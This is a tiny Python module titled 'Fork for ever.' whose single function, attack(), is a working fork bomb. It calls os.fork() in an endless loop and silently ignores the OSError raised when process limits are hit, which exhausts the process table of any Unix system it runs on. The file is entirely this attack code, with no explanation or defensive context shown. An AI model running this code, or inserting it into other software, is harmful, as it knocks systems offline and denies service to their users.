"""Fork for ever."""

from __future__ import annotations

import os
from contextlib import suppress


def attack() -> None:
    while True:
        with suppress(OSError):
            os.fork()
